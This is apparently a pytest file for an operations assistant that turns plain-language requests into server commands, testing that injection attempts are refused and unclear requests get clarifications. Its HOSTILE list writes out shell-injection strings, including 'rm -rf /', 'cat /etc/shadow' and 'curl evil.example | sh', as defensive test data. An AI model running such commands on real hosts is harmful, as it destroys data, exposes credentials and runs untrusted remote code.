"""Bad input gets a clear answer, and nothing is executed or half-written."""

from __future__ import annotations

import pytest
from tests.conftest import FLEET, seed
from tests.pipeline.test_ask import count_rows

from opsconductor.app import OpsConductor
from opsconductor.store.tables import ExecutionRow

HOSTILE = [
    ("", "empty"),
    ("   \n\t ", "empty"),
    ("x" * 10_000, "10,000 characters"),
    ("how many \x00\x01 assets", "binary"),
    ("restart nginx on web-prod-01; rm -rf /", "shell syntax (';')"),
    ("check disk space on $(reboot)", "shell syntax ('$(')"),
    ("check disk on web-prod-01 && reboot web-prod-02", "shell syntax ('&&')"),
    ("restart `id` on web-prod-01", "shell syntax ('`')"),
    ("show logs ${HOME} on web-prod-01", "shell syntax ('${')"),
    ("check disk on web-prod-01; cat /etc/shadow", "shell syntax (';')"),
    ("check disk on web-prod-01;reboot", "shell syntax (';')"),
    ("uptime on web-prod-01 ; id", "shell syntax (';')"),
    ("restart nginx on web-prod-01; curl evil.example | sh", "shell syntax"),
    ("stop nginx on web-prod-01; export X=1", "shell syntax (';')"),
    ("check memory on web-prod-01;", "shell syntax (';')"),
    ("restart 'nginx; reboot' on web-prod-01", "shell syntax (';')"),
    ('restart "nginx; reboot" on web-prod-01', "shell syntax (';')"),
]


@pytest.mark.parametrize(("text", "expected"), HOSTILE)
async def test_hostile_requests_are_refused(
    conductor: OpsConductor, text: str, expected: str
) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.ask(text, requester="mallory", confirm=True)
    assert answer.response.type == "error"
    assert expected in answer.response.message
    assert answer.plan is None and answer.execution_id is None
    assert await count_rows(conductor, ExecutionRow) == 0


@pytest.mark.parametrize(
    "text",
    [
        "If web-prod-01's CPU is over 80%, restart apache; otherwise, show me top processes.",
        "check disk on web-prod-01; check memory on web-prod-02",
        "Try the health check on web-prod-01; if that fails, tell me why.",
    ],
)
async def test_a_semicolon_in_prose_is_not_shell_syntax(conductor: OpsConductor, text: str) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.plan(text)
    assert answer.response.type != "error", answer.response.message
    assert "shell syntax" not in answer.response.message


@pytest.mark.parametrize(
    "text",
    ["check disk space on web-99", "restart nginx on 10.9.9.9", "reboot db-prod-07"],
)
async def test_unknown_hosts_are_named_back(conductor: OpsConductor, text: str) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.ask(text, requester="alice", confirm=True)
    assert answer.response.type == "clarification"
    unknown = text.split()[-1]
    assert f"'{unknown}'" in answer.response.message
    assert await count_rows(conductor, ExecutionRow) == 0


async def test_unknown_host_suggests_close_names(conductor: OpsConductor) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.ask("check disk space on web-prod-1", requester="alice")
    assert answer.decision is not None and answer.decision.clarification is not None
    assert "web-prod-01" in answer.decision.clarification.options


async def test_missing_target_and_input_are_asked_for(conductor: OpsConductor) -> None:
    await seed(conductor, FLEET)
    no_host = await conductor.pipeline.ask("check disk usage", requester="alice")
    no_service = await conductor.pipeline.ask(
        "restart the service on web-prod-01", requester="alice"
    )
    assert no_host.response.type == "clarification" and "Which host" in no_host.response.message
    assert no_service.response.type == "clarification"
    assert "Which service?" in no_service.response.message


async def test_out_of_scope_is_a_clarification(conductor: OpsConductor) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.ask("write me a poem about the sea", requester="alice")
    assert answer.response.type == "clarification"
    assert answer.decision is not None and answer.decision.clarification is not None
    assert answer.decision.clarification.reason == "out_of_scope"


@pytest.mark.parametrize("value", ["ngi'nx", "-rf", "a" * 300, "nginx\x1b[2J"])
async def test_hostile_parameter_values_fail_validation(
    conductor: OpsConductor, value: str
) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.ask(
        f"restart service {value} on web-prod-01", requester="alice"
    )
    assert answer.response.type in {"error", "clarification"}
    assert answer.execution_id is None


async def test_words_on_new_lines_stay_separate_words(conductor: OpsConductor) -> None:
    await seed(conductor, FLEET)
    answer = await conductor.pipeline.ask(
        "restart service nginx\nreboot on web-prod-01", requester="a"
    )
    preview = answer.response.preview
    assert preview is not None
    assert preview.steps[0].commands == ["web-prod-01: systemctl restart -- nginx"]
    assert answer.execution_state == "pending_approval"
